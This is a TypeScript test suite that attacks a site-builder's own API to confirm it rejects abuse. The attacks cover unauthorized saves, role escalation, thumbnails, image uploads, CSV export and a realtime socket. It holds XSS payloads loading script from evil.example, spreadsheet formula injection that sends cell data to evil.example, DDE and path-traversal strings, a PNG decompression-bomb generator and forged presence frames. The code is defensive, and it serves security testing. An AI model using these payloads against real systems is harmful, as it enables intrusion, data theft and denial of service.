import { deflateSync, gzipSync } from 'node:zlib';
import { IMAGE_MESSAGES } from '@div/shared/assets';
import { FRAME_AWARENESS } from '@div/shared/realtime';
import { spaceDetailResponseSchema } from '@div/shared/spaces';
import { withoutScripts } from '@div/site-engine/without-scripts';
import type { FastifyInstance } from 'fastify';
import * as encoding from 'lib0/encoding';
import sharp from 'sharp';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { DatabaseHandle } from '../db/client';
import { formSubmissions } from '../db/schema/forms';
import { createApiKey } from '../modules/api-keys/service';
import { createSpaceFor, listenTestApp, postJson } from '../modules/generation/test-helpers';
import { createTestApp, createTestUser, injectAs } from '../test/app';
import { openTestDatabase, testDrivers } from '../test/db';
import { connectEditor, type TestEditor } from '../test/realtime-client';

type User = Awaited<ReturnType<typeof createTestUser>>;

/**
 * Issue 19, second attack: the text-replacement save, the space thumbnail and the members' roles,
 * attacked as a signed-out caller, a second tenant and a viewer member, against the real routes.
 */
describe.each(testDrivers)('attacks on the replacement save, thumbnails and roles on %s (issue 19)', (driver) => {
  let database: DatabaseHandle;
  let app: FastifyInstance;
  let owner: User;
  let viewer: User;
  let editor: User;
  let stranger: User;

  beforeAll(async () => {
    database = await openTestDatabase(driver);
    app = await createTestApp(database, { COMPOSER_PACE: '0', PUBLIC_URL: 'https://div.example' });
    owner = await createTestUser(database, { plan: 'pro', name: 'Olga' });
    viewer = await createTestUser(database, { name: 'Vera' });
    editor = await createTestUser(database, { name: 'Eva' });
    stranger = await createTestUser(database, { plan: 'pro', name: 'Extraño' });
  });
  afterAll(async () => {
    await app.close();
    await database.close();
  });

  const call = (user: User | null, method: string, url: string, payload?: unknown) => injectAs(app, user, method, url, payload);
  const tokenOf = (link: string) => link.slice(link.lastIndexOf('/') + 1);

  async function join(spaceId: string, user: User, role: 'editor' | 'viewer') {
    const invited = await call(owner, 'POST', `/api/spaces/${spaceId}/invitations`, { email: user.email, role });
    expect(invited.statusCode, invited.body).toBe(201);
    const accepted = await call(user, 'POST', `/api/invitations/${tokenOf(invited.json().link)}/accept`);
    expect(accepted.statusCode, accepted.body).toBe(200);
  }

  /** A space of the owner with `content` as index.html, shared with the viewer and the editor. */
  async function sharedSpace(content: string) {
    const created = await call(owner, 'POST', '/api/spaces', { name: 'Objetivo' });
    const space = created.json().space as { id: string; revision: number };
    const saved = await call(owner, 'PUT', `/api/spaces/${space.id}/files`, {
      revision: space.revision,
      files: [{ path: 'index.html', content }],
      replaceAll: true,
    });
    expect(saved.statusCode, saved.body).toBe(200);
    await join(space.id, viewer, 'viewer');
    await join(space.id, editor, 'editor');
    return { id: space.id, revision: saved.json().revision as number };
  }

  const indexOf = async (spaceId: string) => {
    const detail = spaceDetailResponseSchema.parse((await call(owner, 'GET', `/api/spaces/${spaceId}`)).json());
    return { content: detail.files.find((f) => f.id === 'index.html')?.content, revision: detail.space.revision };
  };

  const patchBody = (revision: number, patch: Record<string, unknown>) => ({
    revision,
    files: [],
    patches: [{ path: 'index.html', ...patch }],
  });

  it('a viewer, a second tenant and a signed-out caller cannot write through a replacement save', async () => {
    const text = '<h1>Hola</h1>';
    const space = await sharedSpace(text);
    const body = patchBody(space.revision, { at: 4, remove: 4, insert: 'PWNED', length: [...text].length });
    expect((await call(viewer, 'PUT', `/api/spaces/${space.id}/files`, body)).statusCode).toBe(403);
    expect((await call(stranger, 'PUT', `/api/spaces/${space.id}/files`, body)).statusCode).toBe(404);
    expect((await call(null, 'PUT', `/api/spaces/${space.id}/files`, body)).statusCode).toBe(401);
    expect(await indexOf(space.id)).toEqual({ content: text, revision: space.revision });
    // The editor may: the same replacement lands.
    const ok = await call(editor, 'PUT', `/api/spaces/${space.id}/files`, body);
    expect(ok.statusCode, ok.body).toBe(200);
    expect((await indexOf(space.id)).content).toBe('<h1>PWNED</h1>');
  });

  it('replacements out of bounds, negative, huge, overlapping or with a wrong length are refused without a write', async () => {
    const text = 'a😀b'; // three code points, four UTF-16 units
    const space = await sharedSpace(text);
    const cases: [Record<string, unknown>, number[]][] = [
      [{ at: -1, remove: 0, insert: 'x', length: 3 }, [400]],
      [{ at: 0, remove: -2, insert: 'x', length: 3 }, [400]],
      [{ at: 0.5, remove: 0, insert: 'x', length: 3 }, [400]],
      [{ at: 4, remove: 0, insert: 'x', length: 3 }, [409]],
      [{ at: 2, remove: 5, insert: 'x', length: 3 }, [409]],
      [{ at: 0, remove: 0, insert: 'x', length: 4 }, [409]], // the length of UTF-16 units, not code points
      [{ at: 2 ** 31, remove: 0, insert: 'x', length: 3 }, [400]],
      [{ at: Number.MAX_SAFE_INTEGER, remove: Number.MAX_SAFE_INTEGER, insert: 'x', length: 3 }, [400]],
      [{ at: 0, remove: 0, insert: 'x', length: 1e9 }, [400]],
      [{ at: '0', remove: 0, insert: 'x', length: 3 }, [400]],
      [{ at: 0, remove: 0, insert: 7, length: 3 }, [400]],
      [{ path: '../index.html', at: 0, remove: 0, insert: 'x', length: 3 }, [400]],
      [{ path: 'a\\..\\index.html', at: 0, remove: 0, insert: 'x', length: 3 }, [400, 404]],
      [{ path: 'nada.html', at: 0, remove: 0, insert: 'x', length: 0 }, [404]],
    ];
    for (const [patch, statuses] of cases) {
      const res = await call(editor, 'PUT', `/api/spaces/${space.id}/files`, patchBody(space.revision, patch));
      expect(statuses, `${JSON.stringify(patch)} → ${res.statusCode} ${res.body}`).toContain(res.statusCode);
      expect(typeof res.json().message).toBe('string');
    }
    // Two replacements of one file (overlapping or not) in one save.
    const twice = await call(editor, 'PUT', `/api/spaces/${space.id}/files`, {
      revision: space.revision,
      files: [],
      patches: [
        { path: 'index.html', at: 0, remove: 2, insert: 'x', length: 3 },
        { path: 'index.html', at: 1, remove: 2, insert: 'y', length: 3 },
      ],
    });
    expect(twice.statusCode).toBe(400);
    // A replacement and the whole file in one save.
    const both = await call(editor, 'PUT', `/api/spaces/${space.id}/files`, {
      revision: space.revision,
      files: [{ path: 'index.html', content: 'z' }],
      patches: [{ path: 'index.html', at: 0, remove: 0, insert: 'x', length: 3 }],
    });
    expect(both.statusCode).toBe(400);
    expect(await indexOf(space.id)).toEqual({ content: text, revision: space.revision });
  });

  it('a replacement counts code points: an astral character is never split, a NUL byte is a clear 400', async () => {
    const text = 'a😀b';
    const space = await sharedSpace(text);
    // Code point 1 is the whole emoji: replacing it leaves no half surrogate.
    const res = await call(
      editor,
      'PUT',
      `/api/spaces/${space.id}/files`,
      patchBody(space.revision, { at: 1, remove: 1, insert: '🎉', length: 3 }),
    );
    expect(res.statusCode, res.body).toBe(200);
    expect(await indexOf(space.id)).toEqual({ content: 'a🎉b', revision: res.json().revision });
    // Half a surrogate pair sent on purpose: stored as valid text or refused, never a 500 nor a broken file.
    const half = await call(
      editor,
      'PUT',
      `/api/spaces/${space.id}/files`,
      patchBody(res.json().revision, { at: 3, remove: 0, insert: '\ud83d', length: 3 }),
    );
    expect([200, 400], half.body).toContain(half.statusCode);
    const after = await indexOf(space.id);
    // Well formed: a round trip through UTF-8 changes nothing.
    expect(Buffer.from(after.content ?? '', 'utf8').toString('utf8')).toBe(after.content);
    if (half.statusCode === 200) expect([...(after.content ?? '')]).toHaveLength(4);
    // A NUL byte cannot be stored in a text column: refused before the database, in the patch and in a file.
    const nul = await call(
      editor,
      'PUT',
      `/api/spaces/${space.id}/files`,
      patchBody(after.revision, { at: 0, remove: 0, insert: 'x\u0000y', length: 3 }),
    );
    expect(nul.statusCode, nul.body).toBe(400);
    const nulFile = await call(editor, 'PUT', `/api/spaces/${space.id}/files`, {
      revision: after.revision,
      files: [{ path: 'otro.html', content: 'x\u0000y' }],
    });
    expect(nulFile.statusCode, nulFile.body).toBe(400);
    expect(await indexOf(space.id)).toEqual(after);
  });

  it('a replacement may not grow a file past the file limit', async () => {
    const space = await sharedSpace('x');
    const big = 'y'.repeat(3 * 1024 * 1024);
    const res = await call(
      editor,
      'PUT',
      `/api/spaces/${space.id}/files`,
      patchBody(space.revision, { at: 0, remove: 0, insert: big, length: 1 }),
    );
    expect([400, 413]).toContain(res.statusCode);
    expect(await indexOf(space.id)).toEqual({ content: 'x', revision: space.revision });
  });

  it("the thumbnail is the members' only: a second tenant gets 404, signed out 401, a viewer the page", async () => {
    const space = await sharedSpace('<!doctype html><h1>Privado</h1>');
    expect((await call(stranger, 'GET', `/api/spaces/${space.id}/thumbnail`)).statusCode).toBe(404);
    expect((await call(null, 'GET', `/api/spaces/${space.id}/thumbnail`)).statusCode).toBe(401);
    const seen = await call(viewer, 'GET', `/api/spaces/${space.id}/thumbnail`);
    expect(seen.statusCode).toBe(200);
    expect(seen.json().html).toContain('Privado');
    expect(seen.headers['content-type']).toMatch(/^application\/json/);
    expect(seen.headers['cache-control']).toMatch(/^private/);
    expect(seen.headers['x-content-type-options']).toBe('nosniff');
    // A made-up id and a malformed one.
    expect((await call(viewer, 'GET', '/api/spaces/00000000-0000-4000-8000-000000000000/thumbnail')).statusCode).toBe(404);
    expect((await call(viewer, 'GET', '/api/spaces/..%2f..%2fhealth/thumbnail')).statusCode).toBeGreaterThanOrEqual(400);
  });

  it('no script survives in a thumbnail, however the tags are nested, cased or left open', async () => {
    const attempts = [
      '<scr<script></script>ipt>alert(1)</script>',
      '<scr<script>x</script>ipt>alert(1)</scr<script></script>ipt>',
      '<SCRIPT>alert(1)</SCRIPT >',
      '<script\nsrc="https://evil.example/x.js"></script>',
      '<script/src="https://evil.example/x.js"></script>',
      '<svg><script>alert(1)</script></svg>',
      '<script>alert(1)',
      '<scr<scr<script></script>ipt></script>ipt>alert(1)</script>',
    ];
    for (const attempt of attempts) {
      const out = withoutScripts(`<p>a</p>${attempt}<p>b</p>`);
      expect(out, attempt).not.toMatch(/<script/i);
    }
    // Through the route, as the viewer sees it.
    const space = await sharedSpace('<!doctype html><h1>Hola</h1><scr<script></script>ipt>alert(1)</script>');
    const seen = await call(viewer, 'GET', `/api/spaces/${space.id}/thumbnail`);
    expect(seen.statusCode).toBe(200);
    expect(seen.json().html).not.toMatch(/<script/i);
  });

  it('a private space is not shared, remixed or thumbnailed through the public routes; a public one gives no versions', async () => {
    const space = await sharedSpace('<h1>Secreto</h1>');
    expect((await call(null, 'GET', `/api/share/${space.id}`)).statusCode).toBe(404);
    expect((await call(null, 'GET', `/api/remix/${space.id}`)).statusCode).toBe(404);
    expect((await call(stranger, 'POST', '/api/remix', { spaceId: space.id })).statusCode).toBe(404);
    // Remixing is allowed but nothing is published: still nothing to see.
    expect((await call(owner, 'PATCH', `/api/spaces/${space.id}`, { allowRemix: true })).statusCode).toBe(200);
    expect((await call(stranger, 'POST', '/api/remix', { spaceId: space.id })).statusCode).toBe(404);
    // A viewer cannot make it public.
    expect((await call(viewer, 'PATCH', `/api/spaces/${space.id}`, { public: true })).statusCode).toBe(403);
    expect((await call(null, 'GET', `/api/share/${space.id}`)).statusCode).toBe(404);
    // Public: the current files are shared, but no saved version of it, and still no thumbnail for strangers.
    expect((await call(owner, 'PATCH', `/api/spaces/${space.id}`, { public: true })).statusCode).toBe(200);
    expect((await call(null, 'GET', `/api/share/${space.id}`)).statusCode).toBe(200);
    const versions = (await call(owner, 'GET', `/api/spaces/${space.id}/versions`)).json().versions as { id: string }[];
    const versionId = versions.at(-1)?.id as string;
    expect((await call(stranger, 'POST', '/api/remix', { spaceId: space.id, versionId })).statusCode).toBe(404);
    expect((await call(stranger, 'GET', `/api/spaces/${space.id}/versions/${versionId}`)).statusCode).toBe(404);
    expect((await call(stranger, 'GET', `/api/spaces/${space.id}/thumbnail`)).statusCode).toBe(404);
  });

  it('a removed member loses the thumbnail, the files and the save at once', async () => {
    const space = await sharedSpace('<h1>Hola</h1>');
    expect((await call(owner, 'DELETE', `/api/spaces/${space.id}/members/${editor.id}`)).statusCode).toBe(204);
    expect((await call(editor, 'GET', `/api/spaces/${space.id}/thumbnail`)).statusCode).toBe(404);
    expect((await call(editor, 'GET', `/api/spaces/${space.id}`)).statusCode).toBe(404);
    const body = patchBody(space.revision, { at: 0, remove: 0, insert: 'x', length: 13 });
    expect((await call(editor, 'PUT', `/api/spaces/${space.id}/files`, body)).statusCode).toBe(404);
  });

  it('a viewer cannot raise their own role, invite, or remove others', async () => {
    const space = await sharedSpace('<h1>Hola</h1>');
    expect((await call(viewer, 'PATCH', `/api/spaces/${space.id}/members/${viewer.id}`, { role: 'editor' })).statusCode).toBe(
      403,
    );
    expect(
      (await call(viewer, 'POST', `/api/spaces/${space.id}/invitations`, { email: 'x@example.test', role: 'editor' })).statusCode,
    ).toBe(403);
    expect((await call(viewer, 'DELETE', `/api/spaces/${space.id}/members/${editor.id}`)).statusCode).toBe(403);
    expect((await call(editor, 'PATCH', `/api/spaces/${space.id}/members/${editor.id}`, { role: 'owner' })).statusCode).toBe(400);
    expect((await call(editor, 'PATCH', `/api/spaces/${space.id}/members/${viewer.id}`, { role: 'editor' })).statusCode).toBe(
      403,
    );
    // An owner cannot be made a member of their own space, nor invite with role "owner".
    expect(
      (await call(owner, 'POST', `/api/spaces/${space.id}/invitations`, { email: 'y@example.test', role: 'owner' })).statusCode,
    ).toBe(400);
  });
});

/** A PNG chunk: length, type, data and the CRC-32 of type and data. */
function pngChunk(type: string, data: Buffer): Buffer {
  const body = Buffer.concat([Buffer.from(type, 'latin1'), data]);
  let crc = 0xffffffff;
  for (const byte of body) {
    crc ^= byte;
    for (let k = 0; k < 8; k++) crc = crc & 1 ? (crc >>> 1) ^ 0xedb88320 : crc >>> 1;
  }
  const length = Buffer.alloc(4);
  length.writeUInt32BE(data.length);
  const sum = Buffer.alloc(4);
  sum.writeUInt32BE((crc ^ 0xffffffff) >>> 0);
  return Buffer.concat([length, body, sum]);
}

/** A valid black 1-bit PNG of side×side pixels: a few hundred KB that decode to gigapixels. */
function pngBomb(side: number): Buffer {
  const header = Buffer.alloc(13);
  header.writeUInt32BE(side, 0);
  header.writeUInt32BE(side, 4);
  header.set([1, 0, 0, 0, 0], 8); // bit depth 1, greyscale
  const rows = Buffer.alloc((1 + Math.ceil(side / 8)) * side);
  return Buffer.concat([
    Buffer.from('89504e470d0a1a0a', 'hex'),
    pngChunk('IHDR', header),
    pngChunk('IDAT', deflateSync(rows, { level: 9 })),
    pngChunk('IEND', Buffer.alloc(0)),
  ]);
}

describe.each(testDrivers)('attacks on image upload and serving on %s (issue 19)', (driver) => {
  let database: DatabaseHandle;
  let app: FastifyInstance;
  let owner: User;
  let viewer: User;
  let stranger: User;
  let spaceId: string;
  let otherSpaceId: string;

  beforeAll(async () => {
    database = await openTestDatabase(driver);
    app = await createTestApp(database, { PUBLIC_URL: 'https://div.example' });
    owner = await createTestUser(database, { plan: 'pro' });
    viewer = await createTestUser(database);
    stranger = await createTestUser(database, { plan: 'pro' });
    spaceId = (await injectAs(app, owner, 'POST', '/api/spaces', { name: 'Fotos' })).json().space.id;
    otherSpaceId = (await injectAs(app, stranger, 'POST', '/api/spaces', { name: 'Otras' })).json().space.id;
    const invited = await injectAs(app, owner, 'POST', `/api/spaces/${spaceId}/invitations`, {
      email: viewer.email,
      role: 'viewer',
    });
    const link = invited.json().link as string;
    expect(
      (await injectAs(app, viewer, 'POST', `/api/invitations/${link.slice(link.lastIndexOf('/') + 1)}/accept`)).statusCode,
    ).toBe(200);
  });
  afterAll(async () => {
    await app.close();
    await database.close();
  });

  const upload = (user: User | null, space: string, name: string, body: Buffer | string, type = 'application/octet-stream') =>
    injectAs(app, user, 'POST', `/api/spaces/${space}/images?name=${encodeURIComponent(name)}`, body, { 'content-type': type });
  const square = () =>
    sharp({ create: { width: 64, height: 64, channels: 3, background: '#1e40af' } })
      .png()
      .toBuffer();

  it('a gzip-compressed SVG (svgz) is checked like a plain one: a script or a file reference inside is refused', async () => {
    const inner = [
      '<svg xmlns="http://www.w3.org/2000/svg" width="40" height="40"><rect width="40" height="40"/><script>alert(1)</script></svg>',
      '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="40" height="40"><image xlink:href="file:///etc/passwd" width="40" height="40"/></svg>',
    ];
    for (const svg of inner) {
      const res = await upload(owner, spaceId, 'logo.svg', gzipSync(Buffer.from(svg)), 'image/svg+xml');
      expect(res.statusCode, res.body).toBe(415);
      expect(res.json().message).toBe(IMAGE_MESSAGES.svgUnsafe);
    }
    // A clean one compressed is still an image.
    const clean = gzipSync(
      Buffer.from(
        '<svg xmlns="http://www.w3.org/2000/svg" width="40" height="40"><rect width="40" height="40" fill="#0a0"/></svg>',
      ),
    );
    const ok = await upload(owner, spaceId, 'limpio.svgz', clean);
    expect(ok.statusCode, ok.body).toBe(201);
  });

  it('decompression bombs stop at the pixel limit with a 413, quickly: a 50,000² PNG and a 50,000² SVG', async () => {
    const png = pngBomb(50_000);
    expect(png.length).toBeLessThan(1024 * 1024);
    const started = Date.now();
    const res = await upload(owner, spaceId, 'bomba.png', png);
    expect(res.statusCode, res.body).toBe(413);
    expect(res.json().message).toBe(IMAGE_MESSAGES.tooManyPixels);
    const svg = '<svg xmlns="http://www.w3.org/2000/svg" width="50000" height="50000"><rect width="50000" height="50000"/></svg>';
    expect((await upload(owner, spaceId, 'bomba.svg', svg)).statusCode).toBe(413);
    // Tall and thin: drawn at least 480 wide, so 1 × 100,000 becomes 480 × 48,000,000.
    const thin = '<svg xmlns="http://www.w3.org/2000/svg" width="1" height="100000"><rect width="1" height="100000"/></svg>';
    expect((await upload(owner, spaceId, 'fina.svg', thin)).statusCode).toBe(413);
    expect(Date.now() - started).toBeLessThan(20_000);
  });

  it('an upload over the size limit is refused as 401 signed out and 404 to a stranger, before its body is read', async () => {
    const big = Buffer.alloc(11 * 1024 * 1024, 1);
    expect((await upload(null, spaceId, 'x.png', big)).statusCode).toBe(401);
    expect((await upload(stranger, spaceId, 'x.png', big)).statusCode).toBe(404);
    expect((await upload(viewer, spaceId, 'x.png', big)).statusCode).toBe(403);
    expect((await upload(owner, spaceId, 'x.png', big)).statusCode).toBe(413);
  });

  it('image names cannot traverse paths: ../, %2e%2e, backslashes, NUL and look-alikes become plain names', async () => {
    const body = await square();
    const names = [
      '../../etc/passwd.png',
      '..%2f..%2fsecreto.png',
      '..\\..\\win.png',
      'a\u0000b.png',
      'ａ／．．／b.png',
      '/abs.png',
      '.png',
    ];
    for (const name of names) {
      const res = await upload(owner, spaceId, name, body);
      expect([201, 400], `${name} → ${res.body}`).toContain(res.statusCode);
      if (res.statusCode === 201) expect(res.json().image.name, name).toMatch(/^[a-z0-9][a-z0-9_-]*\.png$/);
    }
  });

  it("another tenant's image id cannot be renamed, deleted or read through one's own space; variant URLs cannot traverse", async () => {
    const made = await upload(owner, spaceId, 'propia.png', await square());
    expect(made.statusCode, made.body).toBe(201);
    const image = made.json().image as { id: string; variants: { url: string }[] };
    const own = `/api/spaces/${otherSpaceId}/images/${image.id}`;
    expect((await injectAs(app, stranger, 'PATCH', own, { alt: 'robada' })).statusCode).toBe(404);
    expect((await injectAs(app, stranger, 'DELETE', own)).statusCode).toBe(404);
    expect((await injectAs(app, stranger, 'GET', `/api/spaces/${spaceId}/images`)).statusCode).toBe(404);
    expect((await injectAs(app, viewer, 'DELETE', `/api/spaces/${spaceId}/images/${image.id}`)).statusCode).toBe(403);
    expect((await injectAs(app, viewer, 'PATCH', `/api/spaces/${spaceId}/images/${image.id}`, { alt: 'x' })).statusCode).toBe(
      403,
    );
    expect(
      (
        await injectAs(app, viewer, 'POST', `/api/spaces/${spaceId}/images?name=v.png`, await square(), {
          'content-type': 'image/png',
        })
      ).statusCode,
    ).toBe(403);
    // Still there for the owner.
    const listed = (await injectAs(app, owner, 'GET', `/api/spaces/${spaceId}/images`)).json().images as { id: string }[];
    expect(listed.map((i) => i.id)).toContain(image.id);
    // The variant is served as WebP, never sniffed; other spaces and traversals find nothing.
    const url = image.variants[0]?.url as string;
    const served = await app.inject({ method: 'GET', url, headers: { host: 'app.test' } });
    expect(served.statusCode).toBe(200);
    expect(served.headers['content-type']).toBe('image/webp');
    const file = url.slice(url.lastIndexOf('/') + 1);
    for (const bad of [
      `/preview/images/${otherSpaceId}/${file}`,
      `/preview/images/${spaceId}/..%2f..%2fpackage.json`,
      `/preview/images/${spaceId}/%2e%2e%5c%2e%2e%5cpackage.json`,
      `/preview/images/${spaceId}/x%00.webp`,
      `/preview/images/..%2f${spaceId}/${file}`,
    ]) {
      const res = await app.inject({ method: 'GET', url: bad, headers: { host: 'app.test' } });
      expect(res.statusCode, bad).toBe(404);
    }
  });
});

describe.each(testDrivers)('attacks on the forms inbox, its CSV and the /v1 submissions on %s (issue 19)', (driver) => {
  let database: DatabaseHandle;
  let app: FastifyInstance;
  let owner: User;
  let editor: User;
  let viewer: User;
  let stranger: User;
  let spaceId: string;
  let otherSpaceId: string;

  beforeAll(async () => {
    database = await openTestDatabase(driver);
    app = await createTestApp(database, { PUBLIC_URL: 'https://div.example' });
    owner = await createTestUser(database, { plan: 'pro' });
    editor = await createTestUser(database);
    viewer = await createTestUser(database);
    stranger = await createTestUser(database, { plan: 'pro' });
    spaceId = (await injectAs(app, owner, 'POST', '/api/spaces', { name: 'Contacto' })).json().space.id;
    otherSpaceId = (await injectAs(app, stranger, 'POST', '/api/spaces', { name: 'Ajeno' })).json().space.id;
    for (const [user, role] of [
      [editor, 'editor'],
      [viewer, 'viewer'],
    ] as const) {
      const invited = await injectAs(app, owner, 'POST', `/api/spaces/${spaceId}/invitations`, { email: user.email, role });
      const link = invited.json().link as string;
      const accepted = await injectAs(app, user, 'POST', `/api/invitations/${link.slice(link.lastIndexOf('/') + 1)}/accept`);
      expect(accepted.statusCode, accepted.body).toBe(200);
    }
  });
  afterAll(async () => {
    await app.close();
    await database.close();
  });

  /** What a visitor's form post stores (the public form endpoint keeps the fields as sent). */
  const received = (space: string, fields: { name: string; value: string }[]) =>
    database.db
      .insert(formSubmissions)
      .values({ spaceId: space, formName: 'contacto', page: '/', fields })
      .returning({ id: formSubmissions.id });

  it('no cell of the CSV export starts a formula: read as RFC 4180, or split on semicolons, tabs and lines as Excel in Spanish does', async () => {
    const payloads = [
      '=HYPERLINK("https://evil.example/?d="&A1,"Pulsa aquí")',
      "+1+cmd|' /C calc'!A0",
      '-2+3',
      '@SUM(1,2)',
      '\t=1+1',
      '\r=1+1',
      '  =1+1',
      'Hola;=HYPERLINK("https://evil.example";"x")',
      'Hola,=HYPERLINK("https://evil.example","x")',
      'Hola;  @SUM(1;2)',
      'línea uno\n=1+1',
      'a"b;=1+1',
      'x\t-3+3',
      'Hola, -2 grados y 3 @ 5',
    ];
    await received(spaceId, [
      ...payloads.map((value, i) => ({ name: `campo${i}`, value })),
      { name: '=cabecera()', value: 'ok' },
      { name: 'x;=nombre()', value: 'ok' },
    ]);
    const res = await injectAs(app, owner, 'GET', `/api/spaces/${spaceId}/submissions/export.csv?folder=all`);
    expect(res.statusCode).toBe(200);
    expect(res.headers['content-disposition']).toMatch(/^attachment;/);
    expect(res.headers['x-content-type-options']).toBe('nosniff');
    const text = res.body.replace(/^\uFEFF/, '');
    // 1. Read as RFC 4180 (Excel, LibreOffice and Google Sheets with commas honour the quotes): no
    // cell starts a formula, a tab or a CR; the ones that did get exactly one `'` before them.
    const [header = [], row = []] = readCsv(text);
    for (const cell of [...header, ...row]) expect(cell, JSON.stringify(cell)).not.toMatch(/^(?:[\t\r]|\s*[=+\-@])/);
    expect(header).toContain("'=cabecera()");
    const cellOf = (i: number) => row[header.indexOf(`campo${i}`)];
    expect(cellOf(0)).toBe(`'${payloads[0]}`);
    expect(cellOf(2)).toBe("'-2+3");
    expect(cellOf(4)).toBe("'\t'=1+1");
    expect(cellOf(8)).toBe(payloads[8]);
    expect(cellOf(13)).toBe(payloads[13]);
    // 2. Split on `;`, tabs and line breaks whatever the quotes (a sheet whose list separator is `;`
    // reads a quote that does not open a cell as text): no piece starts a formula either.
    for (const piece of text.split(/[;\t\r\n]/)) {
      const start = piece.replace(/^\s*"?\s*/, '');
      expect(start, JSON.stringify(piece)).not.toMatch(/^[=+\-@]/);
    }
    expect(cellOf(7)).toBe(`Hola;'=HYPERLINK("https://evil.example";"x")`);
  });

  it('the inbox and its export are for editors: viewers 403, other tenants 404, ids of another space 404', async () => {
    const [mine] = await received(spaceId, [{ name: 'mensaje', value: 'mío' }]);
    const [theirs] = await received(otherSpaceId, [{ name: 'mensaje', value: 'ajeno' }]);
    expect((await injectAs(app, viewer, 'GET', `/api/spaces/${spaceId}/submissions`)).statusCode).toBe(403);
    expect((await injectAs(app, viewer, 'GET', `/api/spaces/${spaceId}/submissions/export.csv`)).statusCode).toBe(403);
    expect((await injectAs(app, stranger, 'GET', `/api/spaces/${spaceId}/submissions/export.csv`)).statusCode).toBe(404);
    expect((await injectAs(app, stranger, 'GET', `/api/spaces/${otherSpaceId}/submissions/${mine?.id}`)).statusCode).toBe(404);
    expect((await injectAs(app, stranger, 'DELETE', `/api/spaces/${otherSpaceId}/submissions/${mine?.id}`)).statusCode).toBe(404);
    expect((await injectAs(app, owner, 'GET', `/api/spaces/${spaceId}/submissions/${theirs?.id}`)).statusCode).toBe(404);
    expect((await injectAs(app, owner, 'GET', `/api/spaces/${spaceId}/submissions/${mine?.id}`)).statusCode).toBe(200);
  });

  it("an editor's API key loses the space's submissions the moment the editor is removed", async () => {
    const { key } = await createApiKey({ db: database.db, userId: editor.id, name: 'integración' });
    const viaKey = (url: string) =>
      app.inject({ method: 'GET', url, headers: { host: 'app.test', authorization: `Bearer ${key}` } });
    expect((await viaKey(`/v1/spaces/${spaceId}/submissions`)).statusCode).toBe(200);
    expect((await viaKey(`/v1/spaces/${otherSpaceId}/submissions`)).statusCode).toBe(404);
    expect((await injectAs(app, owner, 'DELETE', `/api/spaces/${spaceId}/members/${editor.id}`)).statusCode).toBe(204);
    expect((await viaKey(`/v1/spaces/${spaceId}/submissions`)).statusCode).toBe(404);
    // A viewer's key never had them.
    const viewerKey = (await createApiKey({ db: database.db, userId: viewer.id, name: 'lector' })).key;
    const res = await app.inject({
      method: 'GET',
      url: `/v1/spaces/${spaceId}/submissions`,
      headers: { host: 'app.test', authorization: `Bearer ${viewerKey}` },
    });
    expect(res.statusCode).toBe(403);
  });
});

describe.each(testDrivers)('attacks on the realtime socket on %s (issue 19)', (driver) => {
  let database: DatabaseHandle;
  let server: { app: FastifyInstance; url: string };
  let owner: User;
  let ana: User;
  let vera: User;
  const open: TestEditor[] = [];
  const connect = (user: User, spaceId: string, origin?: string) => {
    const client = connectEditor({ baseUrl: server.url, spaceId, token: user.token, ...(origin ? { origin } : {}) });
    open.push(client);
    return client;
  };

  beforeAll(async () => {
    database = await openTestDatabase(driver);
    server = await listenTestApp(database, { COMPOSER_PACE: '0' });
    owner = await createTestUser(database, { plan: 'pro', name: 'Olga' });
    ana = await createTestUser(database, { name: 'Ana' });
    vera = await createTestUser(database, { name: 'Vera' });
  });
  afterAll(async () => {
    for (const client of open) client.close();
    await server.app.close();
    await database.close();
  });

  async function share(spaceId: string, member: User, role: 'editor' | 'viewer') {
    const invited = await postJson(server.url, `/api/spaces/${spaceId}/invitations`, owner.authorization, {
      email: member.email,
      role,
    });
    const link = invited.json.link as string;
    const accepted = await postJson(
      server.url,
      `/api/invitations/${link.slice(link.lastIndexOf('/') + 1)}/accept`,
      member.authorization,
      {},
    );
    expect(accepted.status).toBe(200);
  }

  async function until(check: () => boolean, what: string, ms = 5000) {
    const deadline = Date.now() + ms;
    while (!check()) {
      if (Date.now() > deadline) throw new Error(`timed out waiting for ${what}`);
      await new Promise((resolve) => setTimeout(resolve, 20));
    }
  }

  /** A raw awareness frame speaking for `clientId` (what a hand-written client can send). */
  const awarenessFrame = (clientId: number, clock: number, state: unknown) => {
    const inner = encoding.createEncoder();
    encoding.writeVarUint(inner, 1);
    encoding.writeVarUint(inner, clientId);
    encoding.writeVarUint(inner, clock);
    encoding.writeVarString(inner, JSON.stringify(state));
    const outer = encoding.createEncoder();
    encoding.writeVarUint(outer, FRAME_AWARENESS);
    encoding.writeVarUint8Array(outer, encoding.toUint8Array(inner));
    return encoding.toUint8Array(outer);
  };

  it("a viewer cannot take over or remove another member's presence by naming their client id", async () => {
    const spaceId = await createSpaceFor(server.url, owner.authorization);
    await share(spaceId, ana, 'editor');
    await share(spaceId, vera, 'viewer');
    const olga = connect(owner, spaceId);
    const anaClient = connect(ana, spaceId);
    const viewer = connect(vera, spaceId);
    await Promise.all([olga.synced, anaClient.synced, viewer.synced]);
    olga.awareness.setLocalState({ user: { color: '#4f46e5' }, file: 'index.html' });
    const olgaId = olga.doc.clientID;
    await until(() => anaClient.awareness.getStates().get(olgaId)?.file === 'index.html', "Olga's presence");
    const clock = anaClient.awareness.meta.get(olgaId)?.clock ?? 0;
    // Rewrite Olga's entry, then remove it, then say something as herself (to know the others arrived).
    viewer.socket.send(awarenessFrame(olgaId, clock + 5, { user: { color: '#000' }, file: 'secreto.html' }));
    viewer.socket.send(awarenessFrame(olgaId, clock + 6, null));
    viewer.socket.send(awarenessFrame(viewer.doc.clientID, 1, { user: { color: '#e11d48' }, file: 'style.css' }));
    await until(() => anaClient.awareness.getStates().get(viewer.doc.clientID)?.file === 'style.css', "Vera's own presence");
    const seen = anaClient.awareness.getStates().get(olgaId) as { user?: { id?: string }; file?: string } | undefined;
    expect(seen?.file).toBe('index.html');
    expect(seen?.user?.id).toBe(owner.id);
  });

  it('a socket opened from another site is refused (cross-site WebSocket hijacking)', async () => {
    const spaceId = await createSpaceFor(server.url, owner.authorization);
    for (const origin of ['https://evil.example', 'null', `${server.url}.evil.example`]) {
      const client = connect(owner, spaceId, origin);
      const closed = await client.closed;
      expect(closed.code, origin).not.toBe(1000);
      expect(
        client.events.some((event) => event.type === 'welcome'),
        origin,
      ).toBe(false);
    }
  });
});

